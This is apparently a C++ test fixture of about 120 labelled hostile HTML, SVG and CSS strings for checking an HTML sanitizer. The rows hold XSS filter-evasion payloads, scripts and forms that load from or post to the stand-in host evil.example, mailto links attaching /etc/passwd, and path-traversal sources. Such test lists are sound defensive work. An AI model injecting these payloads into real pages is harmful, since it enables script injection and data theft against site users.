// The rows: classic filter evasions (case, entity and control-byte tricks in schemes, broken
// quoting, split and nested tags, comment and CDATA confusion, SVG and MathML namespace
// confusion), loading attributes, and style that loads.
#include "support/hostile_markup.h"

namespace vellumine::test {

namespace {

using namespace std::string_view_literals;

constexpr HostileMarkup kRows[] = {
    // Script elements
    {"ScriptElement", "<script>alert(1)</script>"sv},
    {"ScriptInCapitals", "<SCRIPT>alert(1)</SCRIPT>"sv},
    {"ScriptWithRemoteSource", "<script src=\"https://evil.example/x.js\"></script>"sv},
    {"ScriptSelfClosedStillRuns", "<script src=https://evil.example/x.js />"sv},
    {"ScriptNameEndedBySlash", "<script/x>alert(1)</script>"sv},
    {"ScriptEndInsideEscapedComment", "<script><!--<script></script>alert(1)</script>"sv},
    {"NestedScriptTags", "<script><script>alert(1)</script></script>"sv},
    {"LessThanJoinsWhatFollowsARemovedTag", "<<script>x</script>img src=x onerror=alert(1)>"sv},
    // Event handlers
    {"ImageErrorHandler", "<img src=x onerror=alert(1)>"sv},
    {"HandlerInMixedCase", "<IMG SRC=x OnErRoR=alert(1)>"sv},
    {"HandlerAfterQuoteWithoutSpace", "<img src=\"x\"onerror=\"alert(1)\">"sv},
    {"HandlerAfterUnquotedSlash", "<img src=x/ onerror=alert(1)>"sv},
    {"HandlerAfterFormFeed", "<img\fsrc=x\fonerror=alert(1)>"sv},
    {"HandlerBodyInEntities", "<img src=x onerror=&#97;&#108;ert(1)>"sv},
    {"HandlerWithBackticks", "<img src=`x` onerror=alert(1)>"sv},
    {"HandlerOnBody", "<body onload=alert(1)>"sv},
    {"HandlerOnDetails", "<details open ontoggle=alert(1)>"sv},
    {"HandlerOnAutofocus", "<input autofocus onfocus=alert(1)>"sv},
    {"HandlerOnSvgShorthand", "<svg/onload=alert(1)>"sv},
    // Link schemes
    {"ScriptLink", "<a href=\"javascript:alert(1)\">x</a>"sv},
    {"ScriptLinkInCapitals", "<a href=\"JaVaScRiPt:alert(1)\">x</a>"sv},
    {"ScriptLinkAfterSpaceAndControl", "<a href=\" \x01" "javascript:alert(1)\">x</a>"sv},
    {"ScriptLinkWithTabReference", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>"sv},
    {"ScriptLinkWithLineBreak", "<a href=\"java\nscript:alert(1)\">x</a>"sv},
    {"ScriptLinkWithDecimalReference", "<a href=\"&#106;avascript:alert(1)\">x</a>"sv},
    {"ScriptLinkWithPaddedReferencesNoSemicolon", "<a href=\"&#0000106&#0000097vascript:alert(1)\">x</a>"sv},
    {"ScriptLinkWithHexReference", "<a href=\"&#x6A;avascript:alert(1)\">x</a>"sv},
    {"ScriptLinkWithNamedColon", "<a href=\"javascript&colon;alert(1)\">x</a>"sv},
    {"ScriptLinkWithNamedTab", "<a href=\"java&Tab;script:alert(1)\">x</a>"sv},
    {"ScriptLinkUnquoted", "<a href=javascript:alert(1)>x</a>"sv},
    {"ScriptLinkAfterAllowedDuplicate", "<a href=\"javascript:alert(1)\" href=\"#ok\">x</a>"sv},
    {"VbScriptLink", "<a href=\"vbscript:msgbox(1)\">x</a>"sv},
    {"HtmlDataLink", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>"sv},
    {"FileLink", "<a href=\"file:///etc/passwd\">x</a>"sv},
    {"ScriptAreaLink", "<map name=m><area href=\"javascript:alert(1)\" shape=rect coords=0,0,9,9></map>"sv},
    // Mail links whose fields make a mail program attach a local file
    {"MailLinkAttach", "<a href=\"mailto:ann@example.org?attach=/etc/passwd\">x</a>"sv},
    {"MailLinkAttachmentAfterSubject",
     "<a href=\"mailto:ann@example.org?subject=Hi&amp;attachment=/etc/passwd\">x</a>"sv},
    {"MailLinkNameInReferences", "<a href=\"mailto:ann@example.org?subject=Hi&#x26;&#x61;ttach=/etc/passwd\">x</a>"sv},
    {"MailLinkNamePercentEncoded", "<a href=\"mailto:ann@example.org?%61ttach=/etc/passwd&amp;body=x\">x</a>"sv},
    {"MailLinkSecondQuestionMark", "<a href=\"mailto:ann@example.org?subject=Hi?attach=/etc/passwd\">x</a>"sv},
    {"MailLinkNameWithoutValue", "<a href=\"mailto:ann@example.org?attach&amp;subject=Hi\">x</a>"sv},
    {"MailLinkInCapitals", "<A HREF=\"MAILTO:ANN@EXAMPLE.ORG?SUBJECT=HI&AMP;ATTACH=/ETC/PASSWD\">x</A>"sv},
    {"MailLinkNamedQuestionMark", "<a href=\"mailto:ann@example.org&quest;attach=/etc/passwd\">x</a>"sv},
    {"MailLinkUnquoted", "<a href=mailto:ann@example.org?body=x&attach=/etc/passwd>x</a>"sv},
    {"MailAreaLink", "<map name=m><area href=\"mailto:ann@example.org?Attach=/etc/passwd\" shape=rect coords=0,0,9,9></map>"sv},
    {"PingOnLink", "<a href=\"https://example.org/\" ping=\"https://evil.example/\">x</a>"sv},
    // Forms
    {"FormAction", "<form action=\"https://evil.example/\"><input type=submit></form>"sv},
    {"ButtonFormAction", "<button formaction=\"javascript:alert(1)\">x</button>"sv},
    {"IsIndexAction", "<isindex action=\"javascript:alert(1)\" type=image>"sv},
    // Frames and embedded objects
    {"Iframe", "<iframe src=\"https://evil.example/\"></iframe>"sv},
    {"IframeSrcdoc", "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>"sv},
    {"ObjectData", "<object data=\"javascript:alert(1)\"></object>"sv},
    {"ObjectSvgFromPackage", "<object data=\"media/image1.svg\" type=\"image/svg+xml\"></object>"sv},
    {"EmbedSvgDataUri", "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">"sv},
    {"ObjectStrippedOfItsAddress",
     "<object data=\"https://evil.example/x.swf\" type=\"application/x-shockwave-flash\">"
     "<param name=movie value=\"https://evil.example/x.swf\"></object>"sv},
    {"ObjectInCapitalsWithClassId", "<OBJECT CLASSID=\"clsid:0\" CODEBASE=\"https://evil.example/x.cab\"></OBJECT>"sv},
    {"ObjectInsideObject", "<object><object data=\"https://evil.example/\"></object>x</object>"sv},
    {"ObjectFallbackWithAHandler", "<object data=x><img src=x onerror=alert(1)></object>"sv},
    {"ObjectUnclosed", "<object type=\"text/html\" data=\"https://evil.example/\">"sv},
    {"EmbedWithAnEndTag", "<embed src=\"https://evil.example/x.swf\"></embed>"sv},
    {"AppletCodebase", "<applet code=\"X.class\" codebase=\"https://evil.example/\"></applet>"sv},
    {"AppletWithParamsAndFallback", "<applet code=X.class><param name=a value=b>fallback</applet>"sv},
    {"PortalElement", "<portal src=\"https://evil.example/\"></portal>"sv},
    // SVG and MathML
    {"SvgOnload", "<svg onload=alert(1)>"sv},
    {"SvgScript", "<svg><script>alert(1)</script></svg>"sv},
    {"SvgAnimateHandler", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"sv},
    {"SvgXlinkScriptLink", "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>"sv},
    {"SvgSetTurnsHrefIntoScript", "<svg><a><set attributeName=href to=\"javascript:alert(1)\"/><text y=20>x</text></a></svg>"sv},
    {"SvgCdataHidesTheCloseTag", "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>"sv},
    {"SvgStyleIsNotRawText", "<svg><style><img src=x onerror=alert(1)></style></svg>"sv},
    {"SvgForeignObjectFrame", "<svg><foreignObject><iframe src=\"https://evil.example/\"></iframe></foreignObject></svg>"sv},
    {"MathStyleNamespaceConfusion", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"sv},
    {"MathHref", "<math href=\"javascript:alert(1)\">x</math>"sv},
    // Comments and CDATA
    {"CommentHidesATagInAnAttribute", "<!--<img src=\"--><img src=x onerror=alert(1)//\">"sv},
    {"CommentClosedWithBang", "<!-- --!><img src=x onerror=alert(1)> -->"sv},
    {"AbruptEmptyComment", "<!--><img src=x onerror=alert(1)>-->"sv},
    {"AbruptDashComment", "<!---><img src=x onerror=alert(1)>-->"sv},
    {"ConditionalComment", "<!--[if IE]><script>alert(1)</script><![endif]-->"sv},
    {"CdataOutsideForeignContent", "<![CDATA[><img src=x onerror=alert(1)>]]>"sv},
    {"ProcessingInstructionEndsAtFirstGt", "<?xml x=\"?>\"><img src=x onerror=alert(1)>"sv},
    {"BogusEndTagEndsAtFirstGt", "</ x><img src=x onerror=alert(1)>"sv},
    // Raw text and its confusions
    {"TitleBreakout", "</title><script>alert(1)</script>"sv},
    {"TextareaHoldsATag", "<textarea><img src=x onerror=alert(1)></textarea>"sv},
    {"NoscriptAttributeConfusion", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>"sv},
    {"XmpHoldsATag", "<xmp><img src=x onerror=alert(1)></xmp>"sv},
    {"NoembedAndNoframes", "<noembed><img src=x onerror=alert(1)></noembed><noframes><img src=x onerror=alert(1)></noframes>"sv},
    {"PlaintextHidesTheRest", "<plaintext><img src=x onerror=alert(1)>"sv},
    {"SelectIgnoresTitle", "<select><title></select><img src=x onerror=alert(1)></title></select>"sv},
    {"StyleInBodyBreakout", "<style></style><img src=x onerror=alert(1)>"sv},
    {"TemplateContent", "<template><img src=x onerror=alert(1)></template>"sv},
    {"DeclarativeShadowRoot", "<div><template shadowrootmode=\"open\"><img src=x onerror=alert(1)></template></div>"sv},
    // The page's own rules
    {"MetaRefreshToScript", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"sv},
    {"MetaRefreshToRemote", "<meta http-equiv=REFRESH content=\"0; url=https://evil.example/\">"sv},
    {"MetaSetCookie", "<meta http-equiv=\"Set-Cookie\" content=\"a=b\">"sv},
    {"BaseHref", "<base href=\"https://evil.example/\">"sv},
    {"LinkStyleSheet", "<link rel=stylesheet href=\"https://evil.example/x.css\">"sv},
    {"LinkPrefetch", "<link rel=prefetch href=\"https://evil.example/\">"sv},
    {"StyleImport", "<style>@import 'https://evil.example/x.css';</style>"sv},
    // Style that loads
    {"CssUrl", "<div style=\"background:url(https://evil.example/x.png)\">x</div>"sv},
    {"CssUrlWithEntity", "<div style=\"background:u&#114;l(https://evil.example/x.png)\">x</div>"sv},
    {"CssUrlWithEscape", "<div style=\"background:\\75 rl(https://evil.example/x.png)\">x</div>"sv},
    {"CssExpression", "<div style=\"width:expression(alert(1))\">x</div>"sv},
    {"CssBehavior", "<div style=\"behavior:url(https://evil.example/x.htc)\">x</div>"sv},
    {"CssMozBinding", "<div style=\"-moz-binding:url(https://evil.example/x.xml#x)\">x</div>"sv},
    {"CssImageSet", "<div style=\"background-image:image-set('https://evil.example/x.png' 1x)\">x</div>"sv},
    // Sources outside the page's folder
    {"RemoteImage", "<img src=\"https://evil.example/x.png\">"sv},
    {"SchemeRelativeImage", "<img src=\"//evil.example/x.png\">"sv},
    {"BackslashHostImage", "<img src=\"\\\\evil.example\\x.png\">"sv},
    {"RootPathImage", "<img src=\"/etc/x.png\">"sv},
    {"ParentStepImage", "<img src=\"media/../../x.png\">"sv},
    {"EncodedParentStepImage", "<img src=\"media/%2e%2e/%2E%2e/x.png\">"sv},
    {"DriveLetterImage", "<img src=\"C|/x.png\">"sv},
    {"SrcsetImage", "<img srcset=\"https://evil.example/x.png 1x\">"sv},
    {"SvgDataImage", "<img src=\"data:image/svg+xml;base64,PHN2Zy8+\">"sv},
    {"HtmlDataImage", "<img src=\"data:text/html,x\">"sv},
    {"VideoPoster", "<video poster=\"https://evil.example/x.png\"></video>"sv},
    {"TableBackground", "<table background=\"https://evil.example/x.png\"><tr><td>x</td></tr></table>"sv},
    {"InputImage", "<input type=image src=\"https://evil.example/x.png\">"sv},
    {"AudioSource", "<audio><source src=\"https://evil.example/x.mp3\"></audio>"sv},
    // Bytes
    {"NulInSchemeAndTagName", "<a href=\"java\0script:alert(1)\">x</a><scr\0ipt>alert(1)</script>"sv},
    {"EncodingShiftBytes",
     "<meta charset=\"iso-2022-jp\"><p title=\"\x1b(I\"\x1b(B x=\"><img src=x onerror=alert(1)>\">x</div>"sv},
};

}  // namespace

std::span<const HostileMarkup> hostileMarkup() { return kRows; }

}  // namespace vellumine::test
